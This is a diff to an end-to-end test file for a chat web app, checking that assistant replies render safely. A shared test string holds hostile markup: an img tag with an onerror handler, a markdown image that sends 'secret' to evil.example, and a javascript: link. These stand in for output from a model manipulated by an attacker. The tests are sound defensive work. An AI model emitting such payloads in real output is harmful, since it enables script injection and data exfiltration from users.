@@ -1,4 +1,5 @@
 // Answers as they are written, by a language model that is a small server of our own: shown, spoken, stopped, and safe.
+import type { Page } from "playwright-core";
 import { afterAll } from "vitest";
 import { startFakeModel } from "../test/fake-model.ts";
 import { expectAccessible } from "./axe.ts";
@@ -9,9 +10,9 @@ import {
   list,
   messages,
   openChat,
-  placeholder,
   sendButton,
   settled,
+  start,
   stopButton,
 } from "./chat-page.ts";
 import { startSite } from "./site.ts";
@@ -124,20 +125,42 @@ test("leaving the page ends the writing", async ({ page }) => {
   await eventually(() => model.open()).toBe(0);
 });
 
+const hostile =
+  'Yes. <img src="https://evil.example/a.png" onerror="document.title=1"> ![x](https://evil.example/?q=secret) [click](https://evil.example/) [run](javascript:alert(1)) [go](//evil.example) [tell](mailto:evil@evil.example) **[bold](https://evil.example)** [prices](/faq) [1]';
+
+/** Nothing but links to our own pages may have come of it; that no request left is watched by every page. */
+async function expectHarmless(page: Page) {
+  const answer = messages(page, "assistant");
+  expect(await answer.locator("img, iframe, script, style, form").count()).toBe(0);
+  const hrefs = await answer.locator("a").evaluateAll((all) => all.map((link) => link.getAttribute("href") ?? ""));
+  expect(hrefs.filter((href) => !/^\/(?![/\\])/.test(href))).toEqual([]);
+  expect(await page.title()).toMatch(/^AI Assistant/);
+}
+
 test("[P2] a model that obeys an attacker puts no HTML, no picture and no foreign link on the page", async ({
   page,
 }) => {
-  const hostile =
-    'Yes. <img src="https://evil.example/a.png" onerror="document.title=1"> ![x](https://evil.example/?q=secret) [click](https://evil.example/) [run](javascript:alert(1)) [go](//evil.example) **[bold](https://evil.example)** [prices](/faq) [1]';
   model.behave({ kind: "say", pieces: hostile.match(/[\s\S]{1,9}/g) ?? [], pauseMs: 5 });
   await openChat(page);
   await begin(page);
   await input(page).fill(question);
   await input(page).press("Enter");
   await settled(page, 1);
-  await placeholder(page).waitFor({ state: "detached" });
-  const answer = messages(page, "assistant");
-  expect(await answer.locator("img, iframe, script, style").count()).toBe(0);
-  for (const href of await answer.locator("a").evaluateAll((all) => all.map((link) => Object(link).href as string)))
-    expect(new URL(href).hostname).toBe("localhost");
+  await expectHarmless(page);
+});
+
+test("[P2] even if the server let it through, the page shows it as text", async ({ openPage }) => {
+  const page = await openPage({ serviceWorkers: "block" });
+  await openChat(page);
+  const reply = { id: "m", conversationId: "c", role: "assistant", content: hostile, createdAt: "" };
+  const sources = [
+    { title: "Elsewhere", href: "https://evil.example/" },
+    { title: "Questions", href: "/faq" },
+  ];
+  await page.route("**/messages", (route) => route.fulfill({ json: [{ ...reply, sources }] }));
+  await start(page).click();
+  await messages(page, "assistant").waitFor();
+  await expectHarmless(page);
+  expect(await messages(page, "assistant").innerText()).toContain("<img src=");
+  expect(await messages(page, "assistant").getByRole("link", { name: "prices" }).getAttribute("href")).toBe("/faq");
 });
